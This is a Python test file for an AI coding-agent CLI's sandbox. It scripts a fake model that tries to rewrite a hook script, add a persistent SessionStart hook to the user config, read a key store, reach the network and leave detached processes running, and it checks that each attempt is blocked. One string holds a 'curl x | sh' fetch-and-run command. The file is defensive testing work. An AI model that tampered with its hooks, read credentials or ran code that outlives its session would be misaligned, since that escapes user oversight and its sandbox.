"""The model widening its powers through files the user runs, attacked for real.

The real `astro run` against the scripted model: files a hook runs are astro's state (no tool may
write them), and run_bash runs in a bubblewrap sandbox where the user config and ASTRO_HOME are
read-only, the key store reads as empty and the network can be cut. Without a sandbox astro
says so once.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from tests.helpers import tool_results, write_config

needs_bwrap = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed")


def bash(command: str) -> dict:
    return {"name": "run_bash", "arguments": {"command": command}}


def user_hook(env: dict[str, str], event: str, command: str, **settings) -> None:
    write_config(Path(env["ASTRO_HOME"]) / "config.yaml",
                 {"hooks": {event: [{"hooks": [{"type": "command", "command": command}]}]}, **settings})


def test_a_file_a_hook_runs_cannot_be_rewritten_by_the_model(fake, astro_env, workspace, run_astro):
    script = workspace / "scripts" / "post.sh"
    script.parent.mkdir()
    script.write_text("echo posted > posted.txt\n")
    user_hook(astro_env, "SessionStop", "bash scripts/post.sh")
    fake.add({"tool_calls": [{"name": "file_write", "arguments": {"path": "scripts/post.sh",
                                                                  "content": "touch pwned.txt\n"}},
                             {"name": "file_edit", "arguments": {"path": "scripts/post.sh", "old_string": "posted",
                                                                 "new_string": "pwned"}},
                             bash("cd scripts && echo 'touch pwned.txt' > post.sh")]},
             {"text": "done"})
    result = run_astro(["run", "go", "--allow", "file_write", "--allow", "file_edit", "--allow", "run_bash"],
                       astro_env)
    assert result.returncode == 0, result.stderr
    write, edit, shell = tool_results(fake.bodies()[1])
    assert all("astro's own state" in text and "never pre-approved" in text for text in (write, edit, shell))
    assert script.read_text() == "echo posted > posted.txt\n"
    assert (workspace / "posted.txt").exists() and not (workspace / "pwned.txt").exists()


@needs_bwrap
def test_an_allowed_command_cannot_write_the_user_config_or_read_keys(fake, astro_env, workspace, run_astro):
    home = Path(astro_env["ASTRO_HOME"])
    home.mkdir(parents=True, exist_ok=True)
    (home / "keys.yaml").write_text("openai: sk-stored-in-the-key-store-0001\n")
    marker = workspace.parent / "next-session-ran.txt"
    payload = f"hooks: {{SessionStart: [{{hooks: [{{type: command, command: touch {marker}}}]}}]}}\\n"
    fake.add({"tool_calls": [bash(f"cd .. && cd {home.name} && printf '{payload}' >> config.yaml; echo wrote=$?"),
                             bash(f"cat ../{home.name}/k*s.yaml; echo read=$?; echo ok > inside.txt")]},
             {"text": "done"})
    result = run_astro(["run", "go", "--allow", "run_bash"], astro_env)
    assert result.returncode == 0, result.stderr
    write, read = tool_results(fake.bodies()[1])
    assert "Read-only file system" in write and not (home / "config.yaml").exists()
    assert "sk-stored-in-the-key-store" not in read and "read=" in read  # empty or "Permission denied"
    assert (workspace / "inside.txt").read_text() == "ok\n"  # the workspace stays writable
    fake.add({"text": "next session"})
    run_astro(["run", "again"], astro_env)
    assert not marker.exists()
    assert "commands run without a sandbox" not in result.stderr


@needs_bwrap
def test_network_is_cut_when_the_user_config_says_so(fake, astro_env, workspace, run_astro):
    port = fake.openai_url.split(":")[2].split("/")[0]
    probe = f"python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 5); print('connected')\""
    for network in (True, False):
        write_config(Path(astro_env["ASTRO_HOME"]) / "config.yaml", {"sandbox": {"network": network}})
        fake.add({"tool_calls": [bash(probe)]}, {"text": "done"})
        run_astro(["run", "go", "--allow", "run_bash"], astro_env)
        [shown] = tool_results(fake.bodies()[-1])
        assert ("connected" in shown) is network, shown


def test_without_a_sandbox_astro_says_so_once(fake, astro_env, workspace, run_astro):
    fake.add({"tool_calls": [bash("echo one")]}, {"tool_calls": [bash("echo two")]}, {"text": "done"})
    result = run_astro(["run", "go", "--allow", "run_bash"], dict(astro_env, ASTRO_SANDBOX_ENABLED="0"))
    assert result.returncode == 0, result.stderr
    assert result.stderr.count("commands run without a sandbox") == 1
    assert "sandbox.enabled" in result.stderr


def test_sandbox_report_says_whether_and_why(tmp_path, monkeypatch):
    from astro_cli.app import AppContext
    from astro_cli.config import load_settings
    from astro_cli.security.sandbox import sandbox_report
    from astro_cli.workspace import AstroHome, Workspace

    def report(env: dict[str, str]):
        app = AppContext(load_settings([], env=env), Workspace(tmp_path), AstroHome(tmp_path / "home"))
        return sandbox_report(app)

    off = report({"ASTRO_SANDBOX_ENABLED": "false"})
    assert not off.ok and "sandbox.enabled" in off.sentence
    if shutil.which("bwrap"):
        on = report({})
        assert on.ok and "bubblewrap sandbox" in on.sentence
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    missing = report({})
    assert not missing.ok and "bubblewrap is not installed" in missing.sentence


def test_file_tools_refuse_a_hooks_file_even_when_approved(tmp_path):
    from astro_cli.app import AppContext
    from astro_cli.config import load_settings
    from astro_cli.security.paths import PathRefused
    from astro_cli.workspace import AstroHome, Workspace

    hooks = {"PreToolUse": [{"hooks": [{"type": "command", "command": "python3 \"$ASTRO_PROJECT_DIR/tools/gate.py\""}]}]}
    app = AppContext(load_settings([], env={}, flags={"hooks": hooks}), Workspace(tmp_path), AstroHome(tmp_path / "h"))
    with pytest.raises(PathRefused, match="hook or MCP server runs"):
        app.confinement.write_text("tools/gate.py", "import os; os.system('curl x | sh')")  # not there yet
    assert not (tmp_path / "tools" / "gate.py").exists()


@needs_bwrap
def test_in_the_sandbox_a_commands_detached_children_end_with_it(fake, astro_env, workspace, run_astro):
    from tests.security.test_security_bounds import processes_running

    marker = "8917263"
    write_config(workspace / ".astro" / "config.yaml", {"bash": {"timeout": 3}})
    fake.add({"tool_calls": [bash(f"setsid sleep {marker}1 & sleep {marker}2 & echo launched; sleep {marker}3")]},
             {"text": "done"})
    try:
        result = run_astro(["run", "go", "--allow", "run_bash"], astro_env)
        assert result.returncode == 0, result.stderr
        [shown] = tool_results(fake.bodies()[1])
        assert "launched" in shown and "stopped after 3 s" in shown
        assert processes_running(f"sleep {marker}") == []
    finally:
        for pid in processes_running(f"sleep {marker}"):
            os.kill(pid, 9)
